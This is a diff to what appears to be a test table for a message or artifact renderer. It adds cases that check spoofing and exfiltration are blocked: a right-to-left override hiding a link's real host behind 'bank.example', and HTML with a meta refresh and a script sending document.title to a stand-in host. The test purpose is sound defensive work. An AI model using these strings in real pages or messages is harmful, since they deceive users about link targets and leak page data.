@@ -188,6 +188,10 @@ _CHARACTERS = (
         "direction-marks", "invoice \u202egnp.exe\u2066 and \u200bzero\u2060width\ufeff",
         "the direction of nothing beside it changes",
     ),
+    _case(
+        "direction-of-host", f"\u202e[https://bank.example]({OUTSIDE}/) ![x]({OUTSIDE}/y) note[^1]\n\n[^1]: \u202eend",
+        "the host beside a link reads as it is, not backwards",
+    ),
     _case("stacked-marks", "e" + "\u0301" * 300 + " " + "\U0001f468\u200d" * 50, "paints over no other message"),
     _case(
         "private-characters",
@@ -218,6 +222,12 @@ _PROVIDERS = (
     _case(
         "artifact-leaves",
         f"<!doctype html><img src={OUTSIDE}/a.png><script>location='{OUTSIDE}/?'+document.title</script>",
+        "shown as source; where it runs it reaches nothing",
+    ),
+    _case(
+        "artifact-leaves-plainly",
+        "<!doctype html><meta http-equiv=refresh content='0;url=http://refresh.example/'>"
+        "<script>location='http://plain.example/?'+document.title</script>",
         "shown as source; where it runs it reaches nothing",
     ),
 )  # fmt: skip
